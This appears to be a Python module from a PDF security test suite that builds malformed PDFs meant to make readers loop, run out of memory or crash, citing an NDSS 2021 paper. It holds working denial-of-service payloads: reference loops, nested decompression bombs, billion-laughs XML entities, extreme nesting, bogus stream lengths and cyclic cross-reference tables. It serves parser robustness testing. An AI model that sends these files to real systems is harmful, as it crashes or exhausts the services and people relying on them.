"""Files that are to make a reader loop, run out of memory or crash, and evidence that was exchanged.

Loops and bombs after Müller, Noss, Mladenov, Mainka, Schwenk: Processing Dangerous Paths, NDSS 2021.
"""

from __future__ import annotations

import zlib
from functools import cache

from support.attacks_certification import with_annotation
from support.attacks_family import Family
from support.attacks_raw import (
    Shape,
    Table,
    appended,
    body,
    content_number,
    last_xref,
    page_number,
    place,
    reader,
    root,
    size,
    stream,
    update,
)
from support.attacks_wrapping import signature

STRUCTURE = Family("Loops, bombs and nesting", "NDSS 2021")


@cache
def _bomb(megabytes: int, rounds: int = 1) -> bytes:
    """Zeros packed, and what comes of it packed again."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return data


@STRUCTURE
def field_tree_with_a_loop(data: bytes) -> bytes:
    """A field is its own child."""
    new = size(data) + 1
    field = b"<< /FT /Sig /T (Loop) /Kids [%d 0 R] /Parent %d 0 R >>" % (new, new)
    return with_annotation(data, field, field=new)


@STRUCTURE
def page_that_is_its_own_parent(data: bytes) -> bytes:
    """A loop upwards."""
    number = page_number(data)
    pages = int(reader(data).root.raw_get("/Pages").idnum)
    evil = body(data, number).replace(b"/Parent %d 0 R" % pages, b"/Parent %d 0 R" % number)
    return appended(data, {number: evil})


@STRUCTURE
def structure_tree_with_a_loop(data: bytes) -> bytes:
    """A structure element is its own child."""
    new, old = size(data) + 1, body(data, root(data))
    catalogue = old[: old.rindex(b">>")] + b"/StructTreeRoot %d 0 R >>" % new
    return appended(data, {root(data): catalogue, new: b"<< /Type /StructTreeRoot /K %d 0 R >>" % new})


@STRUCTURE
def object_that_is_itself(data: bytes) -> bytes:
    """The catalogue's pages are a reference to themselves."""
    pages = int(reader(data).root.raw_get("/Pages").idnum)
    return appended(data, {pages: b"%d 0 R" % pages})


@STRUCTURE
def length_that_is_the_stream_itself(data: bytes) -> bytes:
    """The length of a stream is that stream."""
    number = content_number(data)
    return appended(data, {number: b"<< /Length %d 0 R >>\nstream\nx\nendstream" % number})


@STRUCTURE
def length_far_too_long(data: bytes) -> bytes:
    """A stream that claims to be longer than anything."""
    return appended(data, {content_number(data): b"<< /Length 99999999999 >>\nstream\nx\nendstream"})


@STRUCTURE
def length_negative(data: bytes) -> bytes:
    """A stream that claims to be shorter than nothing."""
    return appended(data, {content_number(data): b"<< /Length -5 >>\nstream\nx\nendstream"})


@STRUCTURE
def arrays_nested_deeply(data: bytes) -> bytes:
    """So many brackets that a parser that calls itself runs out of stack."""
    return appended(data, {content_number(data): b"[" * 50_000 + b"]" * 50_000})


@STRUCTURE
def dictionaries_nested_deeply(data: bytes) -> bytes:
    """The same with dictionaries, in the catalogue."""
    old = body(data, root(data))
    nested = b"<< /A " * 20_000 + b"0" + b" >>" * 20_000
    return appended(data, {root(data): old[: old.rindex(b">>")] + b"/Names " + nested + b" >>"})


@STRUCTURE
def metadata_bomb(data: bytes) -> bytes:
    """Metadata of some kilobytes that unpack to hundreds of megabytes."""
    number = int(reader(data).root.raw_get("/Metadata").idnum)
    head = b"/Type /Metadata /Subtype /XML /Filter /FlateDecode"
    return appended(data, {number: stream(_bomb(100), head)})


@STRUCTURE
def metadata_bomb_in_a_bomb(data: bytes) -> bytes:
    """Packed twice."""
    number = int(reader(data).root.raw_get("/Metadata").idnum)
    head = b"/Type /Metadata /Subtype /XML /Filter [/FlateDecode /FlateDecode]"
    return appended(data, {number: stream(_bomb(100, 2), head)})


@STRUCTURE
def metadata_with_entities(data: bytes) -> bytes:
    """XML whose entities grow without end (billion laughs)."""
    number = int(reader(data).root.raw_get("/Metadata").idnum)
    entities = b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    xml = (
        b'<!DOCTYPE x [<!ENTITY a0 "laugh">%s]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a9;</x:xmpmeta>'
        % entities
    )
    return appended(data, {number: stream(xml, b"/Type /Metadata /Subtype /XML")})


@STRUCTURE
def stamp_bomb(data: bytes) -> bytes:
    """The appearance of a new signature field unpacks to hundreds of megabytes."""
    new = size(data) + 1
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Filter /FlateDecode"
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Evil) /Rect [0 0 9 9] %s >>"
    widget %= b"/AP << /N %d 0 R >>" % (new + 1)
    return with_annotation(data, widget, {new + 1: stream(_bomb(100), head)}, field=new)


@STRUCTURE
def cross_reference_bomb(data: bytes) -> bytes:
    """A cross-reference stream that unpacks to hundreds of megabytes."""
    new = size(data) + 1
    head = b"/Type /XRef /W [1 4 2] /Size %d /Root %d 0 R /Prev %d /Filter /FlateDecode"
    table = stream(_bomb(100), head % (new + 1, root(data), last_xref(data)))
    return data + b"\n%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (new, table, len(data) + 1)


@STRUCTURE
def cross_references_in_a_ring(data: bytes) -> bytes:
    """Two tables, each of which names the other as the one before."""
    nothing = {size(data): b"null"}
    second = len(data) + 390
    first = update(data, nothing, Shape(prev=b"/Prev %d" % (second + 18)))
    back = b"/Prev %d" % (len(data) + first.index(b"xref"))
    return data + first.ljust(390) + update(data, nothing, Shape(prev=back, shift=390))


@STRUCTURE
def a_million_free_objects(data: bytes) -> bytes:
    """A section of a table that claims more entries than the file has bytes."""
    tail = update(data, {size(data): b"null"}, Shape(Table.TABLE))
    return data + tail.replace(b"xref\n", b"xref\n0 99999999\n", 1)


@STRUCTURE
def many_updates(data: bytes) -> bytes:
    """Forty updates, of which one is not harmless."""
    for number in range(40):
        evil = {content_number(data): stream(b"f")} if number == 20 else {size(data): b"null"}
        data = data + update(data, evil)
    return data


@STRUCTURE
def signature_in_an_object_stream(data: bytes) -> bytes:
    """The field's value is moved into a packed object."""
    at, new = place(data), size(data) + 1
    inner = signature(at, b"<%s>" % at.contents.hex().encode())
    head = b"%d 0 " % at.number
    entries = b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(head)
    packed = stream(zlib.compress(head + inner), entries)
    objects = b"\n%d 0 obj\n%s\nendobj\n" % (new, packed)
    start = len(data) + len(objects)
    rows = bytes([2]) + new.to_bytes(4, "big") + b"\0\0"
    for offset in (len(data) + 1, start):
        rows += bytes([1]) + offset.to_bytes(4, "big") + b"\0\0"
    entries = b"/Type /XRef /W [1 4 2] /Index [%d 1 %d 2] /Size %d /Root %d 0 R /Prev %d" % (
        at.number,
        new,
        new + 2,
        root(data),
        last_xref(data),
    )
    table = b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (new + 1, stream(rows, entries), start)
    return data + objects + table
